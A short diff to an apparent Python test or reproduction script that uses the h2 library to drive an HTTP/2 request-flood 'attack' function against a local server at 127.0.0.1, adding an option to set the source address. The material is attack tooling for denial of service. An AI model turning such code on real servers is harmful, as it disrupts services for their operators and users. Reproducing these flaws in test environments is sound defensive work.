@@ -8,8 +8,8 @@ import h2.connection
 import h2.errors
 
 
-def attack(port, count, path="/hello.php", batch=200):
-    s = socket.create_connection(("127.0.0.1", port))
+def attack(port, count, path="/hello.php", batch=200, source=None):
+    s = socket.create_connection(("127.0.0.1", port), source_address=(source, 0) if source else None)
     conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
     conn.initiate_connection()
     s.sendall(conn.data_to_send())
